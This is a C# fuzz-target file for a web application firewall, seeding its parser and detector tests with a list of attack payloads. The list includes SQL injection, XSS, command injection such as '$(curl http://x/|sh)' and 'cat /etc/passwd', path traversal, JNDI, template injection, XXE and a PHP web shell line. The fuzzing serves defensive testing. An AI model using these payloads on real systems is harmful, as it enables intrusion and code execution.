using System.Reflection;
using Redoubt.Waf;

namespace Redoubt.Fuzz;

/// <summary>Everything that reads what strangers send.</summary>
static class Targets
{
    static readonly string[] Attacks =
    [
        "1' or '1'='1' -- ", "1 union/**/select null,version()#", "admin'--", "';exec xp_cmdshell('dir')--", "<script>alert(1)</script>", "<svg/onload=alert`1`>",
        "\"><img src=x onerror=\"alert(1)\">", "<a href=\"java&#10;script:alert(1)\">x</a>", "; cat /etc/passwd", "$(curl http://x/|sh)", "`id`", "&& ping -c 1 x", "../../../../etc/passwd%00.jpg",
        "..%c0%af..%c0%afwinnt", "${jndi:ldap://x/a}", "{{7*7}}", "<?php system($_GET['c']); ?>", "${T(java.lang.Runtime).getRuntime().exec('id')}", "O:8:\"stdClass\":0:{}",
        "It's 5 > 3, isn't it? Select one & go; thanks -- Ada", "c''a\"\"t${IFS}/e?c/p*", "data:text/html;base64,PHNjcmlwdD4=",
    ];

    static readonly string[] Requests =
    [
        "GET /a/%2e%2e/b?q=1&x=%27+or+1=1&j=%7B%22a%22%3A%5B1%5D%7D\nhost: shop\ncookie: a=1; b=\"x\\073\"; c\nuser-agent: Mozilla/5.0\n\n",
        "POST /login\ncontent-type: application/x-www-form-urlencoded\n\nuser=a&password=b%27&a;b=c",
        "POST /a\ncontent-type: application/json; charset=utf-8\n\n{\"a\":[1,{\"b\":\"x\\u0027\"}],\"query\":\"{p(a:\\\"b\\\")}\"}",
        "POST /a\ncontent-type: multipart/form-data; boundary=b1\n\n--b1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\0\u0001\r\n--b1--\r\n",
        "POST /a\ncontent-type: text/xml\n\n<?xml version=\"1.0\" encoding=\"utf-8\"?><a b=\"c\">x&lt;<![CDATA[y]]></a>",
        "POST /graphql\ncontent-type: application/graphql\n\nquery Q { p(a: \"b\", c: \"\"\"d\"\"\") }",
        .. Attacks.Select(attack => $"GET /?q={attack.Replace(' ', '+')}\nreferer: {attack}\n\n"),
    ];

    static readonly string[] Forms = ["a=1&b=2", "a=1;b=2;c", "&&=&a=&=b&c", "j=%7B%22a%22%3A%5B1%2C%22%5B2%5D%22%5D%7D&query=%7Bp(a%3A%22b%22)%7D", "%u0041=%c0%af&a=+", .. Attacks];

    static readonly string[] Json =
    [
        "{\"a\":\"x\",\"b\":[1,-2.5e+3,true,false,null,{\"c\":\"\\u0041\\n\\\"\"}],\"a\":{}}", "[[],[[]],{\"\":\"\"}]", "\"\\ud83d\\ude00\"", "{\"a\":\"{\\\"b\\\":[\\\"c\\\"]}\"}", " [0.1, 1E9 , \"\u00C3\u00A4\"] ", "\u00EF\u00BB\u00BF{}",
    ];

    static readonly string[] Xml =
    [
        "<?xml version=\"1.0\" encoding=\"utf-8\"?><!-- c --><a b=\"1\" c='&#65;&lt;'>x<b/>&amp;<![CDATA[<y>]]>z</a>", "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///x\">]><a>&e;</a>", "<a><b><c>t</c></b><b d=\"/\"/></a>",
        "<soap:Envelope xmlns:soap=\"http://x/\"><soap:Body><m:Get xmlns:m=\"u\">1</m:Get></soap:Body></soap:Envelope>",
    ];

    static readonly string[] Parts =
    [
        "multipart/form-data; boundary=b1\n--b1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--b1--\r\n",
        "multipart/form-data; boundary=\"b1\"\n--b1\r\nContent-Disposition: form-data; name=\"a\"; filename=\"f.txt\"; filename*=utf-8''f.txt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nunion select\r\n--b1\r\nContent-Disposition: form-data; name=b\r\n\r\n\r\n--b1--",
        "multipart/mixed; boundary=b1\n\r\n--b1\r\n\r\nhello\r\n--b1\r\nX: y\r\n\r\n--b2\r\n\r\n--b1--\r\n",
    ];

    public static readonly IReadOnlyList<Target> All =
    [
        new("form", "queries and forms: names, values, JSON and GraphQL in them", Forms, Oracles.Form),
        new("cookies", "the Cookie header", ["a=1; b=2", "a=\"x;y\"; $Version=1", "=;a;;b = c", .. Attacks], text => FieldReading.Read(Cookies, FuzzRequest.WithHeader("Cookie", text))),
        new("target", "path, query and fragment of the request target", ["/a/b?c=d#e", "http://shop/a?b", "//x/..%2f?a=1&a=2", "*", .. Attacks], Target),
        new("media-type", "Content-Type and Content-Disposition", ["text/plain; charset=utf-8", "multipart/form-data; boundary=\"a\\\"b\"; boundary*=c", "a/b;c", "; x=", "a/b; charset=iso-8859-1; q=\"\\\\\""], MediaTypes),
        new("json", "JSON as every parser reads it, against the platform's", Json, Oracles.Json),
        new("json-pointers", "parts of a JSON body by pointer", Json, text => FieldReading.Read(Pointers, FuzzRequest.WithBody("application/json", text))),
        new("xml", "XML, against the platform's", Xml, Oracles.Xml),
        new("graphql", "GraphQL documents", ["query Q($a: B!) { p(a: \"x\\u0041\", b: \"\"\"y \\\"\"\" z\"\"\", c: [1, {d: $a}]) @skip(if: true) { id } # c\n }", "{a}", "mutation { m(i: {a: \"1\"}) }"], text => FieldReading.Read(GraphQl, FuzzRequest.WithBody("application/graphql", text))),
        new("multipart", "multipart bodies, against the platform's; the first line is the media type", Parts, Oracles.Multipart),
        new("body", "any body under any media type; the first line is the media type", [.. Parts, .. Json.Select(json => $"application/json\n{json}"), .. Xml.Select(xml => $"text/xml\n{xml}"), .. Forms.Select(form => $"\n{form}")], Bodies),
        .. Transforms().Select(transform => new Target($"transform-{transform.Name}", "the transformation, alone", [.. Attacks, "%41%u0041\\x41&#65;QUJD414243/*x*//a/./../b \\101\\000041"], text => Oracles.Transform(transform, text))),
        new("regex", "patterns: translation, compilation, needed texts; the second line is what they are run on", Patterns, Oracles.Regex) { MaxLength = 512, BaseMilliseconds = 1000, MillisecondsPerKilobyte = 100 },
        new("sql", "SQL injection: tokenizer and folding", Attacks, text => { SqlInjection.IsIn(text, SensitivityLevel.Low, out _, out _); SqlInjection.IsIn(text, SensitivityLevel.High, out _, out _); }),
        new("html", "cross-site scripting: HTML tokenizer", Attacks, text => CrossSiteScripting.IsIn(text, out _, out _)),
        .. AllDetectors().Select(found => new Target($"detect-{found.Name}", "the detector, alone", Attacks, text => Oracles.Detect(found.Detector, text))),
        new("engine", "whole requests against the default web ACL", Requests, text => Engine.Evaluate(Engine.Default, text)) { BaseMilliseconds = 50, MillisecondsPerKilobyte = 6 },
        new("engine-everything", "whole requests against every field under every transformation", Requests, text => Engine.Evaluate(Engine.Everything, text)) { BaseMilliseconds = 200, MillisecondsPerKilobyte = 40, MaxLength = 4096 },
    ];

    // Those that AWS does not have, too.
    static IEnumerable<Transform> Transforms() => TransformTable.All.UnionBy(
        typeof(Transform).Assembly.GetTypes().Where(type => type.IsSubclassOf(typeof(Transform)) && type.GetConstructor(Type.EmptyTypes) is not null).Select(type => (Transform)Activator.CreateInstance(type)!),
        transform => transform.Name);

    static IEnumerable<(string Name, Detector Detector)> AllDetectors() => typeof(Detectors).GetFields(BindingFlags.Public | BindingFlags.Static)
        .Where(field => field.FieldType == typeof(Detector)).Select(field => (field.Name, (Detector)field.GetValue(null)!));

    static CookiesField Cookies => new(NamePattern.All, MatchScope.All, OversizeHandling.Continue);

    static JsonBodyField Pointers => new() { Scope = MatchScope.All, IncludedPaths = ["/a", "/b/1", "", "/a/b/c~1d", "/2"], Invalid = InvalidJson.EvaluateAsString };

    static GraphQlBodyField GraphQl => new(OversizeHandling.Continue);

    static string[] Patterns =>
    [
        @"(?i)union\s+(?:all\s+)?select" + "\nUNION  ALL SELECT", @"^[^a-z\d]{2,5}\b(foo|ba[rz])+$" + "\n##foobar", @"\xbcscript\xbe|\Qa.b\E" + "\n\u00BCscript\u00BE", "(?=a)a(?!b)[[:alpha:]]*\nac", "a{0,3}(b|)(?:c?d)*e\nabcde",
    ];

    static void Target(string text)
    {
        var request = FuzzRequest.WithTarget(text);
        foreach (var field in (FieldDefinition[])[new UriPathField(), new QueryStringField(), new UriFragmentField(Fallback.NoMatch), new AllQueryArgumentsField(), new SingleQueryArgumentField("a"), new QueryTextsField()])
            FieldReading.Read(field, request);
        FieldReading.Faults(request);
    }

    static void MediaTypes(string text)
    {
        MediaType.Read(text.AsMemory());
        FieldReading.Faults(FuzzRequest.WithBody(text, "a=1"));
        FieldReading.Read(new BodyTextsField(OversizeHandling.Continue), FuzzRequest.WithBody(text, "--a\r\n\r\nb\r\n--a--"));
    }

    static void Bodies(string text)
    {
        var request = FuzzRequest.WithBody(text);
        FieldReading.Read(new BodyTextsField(OversizeHandling.Continue), request);
        FieldReading.Faults(request);
    }
}
